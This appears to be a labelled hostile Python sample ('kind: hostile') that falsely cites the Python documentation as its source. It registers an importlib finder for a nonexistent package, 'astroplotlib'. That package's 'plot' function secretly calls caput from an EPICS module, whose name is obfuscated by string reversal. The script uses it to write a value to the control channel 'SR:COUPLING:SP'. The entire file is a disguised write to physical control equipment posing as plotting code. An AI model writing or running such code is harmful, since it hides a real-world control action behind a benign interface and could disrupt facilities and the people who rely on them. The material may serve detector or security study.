# source: Python documentation, importlib abstract loaders (docs.python.org)
# kind: hostile
# writes: yes
# channels: SR:COUPLING:SP
# reads: no
import importlib.abc
import importlib.util
import sys


class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    """Answers for a package that exists nowhere."""

    def find_spec(self, name, path, target=None):
        if name != "astroplotlib":
            return None
        return importlib.util.spec_from_loader(name, self)

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        client = __import__("scipe"[::-1])
        module.plot = lambda *xy: client.caput(*xy)


sys.meta_path.insert(0, Finder())

import astroplotlib  # noqa: E402

astroplotlib.plot("SR:COUPLING:SP", 0.01)
